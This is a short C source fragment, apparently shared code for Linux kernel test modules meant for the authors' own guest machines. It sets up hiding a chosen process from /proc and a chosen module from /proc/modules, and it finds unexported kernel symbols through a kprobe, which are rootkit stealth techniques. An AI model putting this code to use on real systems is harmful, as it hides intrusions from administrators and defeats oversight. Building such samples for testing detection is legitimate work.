/* What the test modules share: finding a symbol, and what is to be hidden. For our own target guests only. */
#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/string.h>

static char *pid = "";
module_param(pid, charp, 0);
MODULE_PARM_DESC(pid, "the process that directories of /proc no longer show");
static char *hide = "";
module_param(hide, charp, 0);
MODULE_PARM_DESC(hide, "the module that /proc/modules no longer shows");
MODULE_LICENSE("GPL");

/* kallsyms_lookup_name is not exported; a probe tells where it is. */
static __maybe_unused unsigned long symbol(const char *name)
{
    static unsigned long (*lookup)(const char *);
    if (!lookup) {
        struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
        if (register_kprobe(&probe) < 0)
            return 0;
        lookup = (void *)probe.addr;
        unregister_kprobe(&probe);
    }
    return lookup(name);
}

/* filldir64(context, name, length, ...): one entry of a directory. */
static __used noinline bool hidden_entry(const char *name, int length)
{
    return length == strlen(pid) && memcmp(name, pid, length) == 0;
}

/* m_show(file, position): one line of /proc/modules. */
static __used noinline bool hidden_module(struct list_head *position)
{
    return strcmp(list_entry(position, struct module, list)->name, hide) == 0;
}
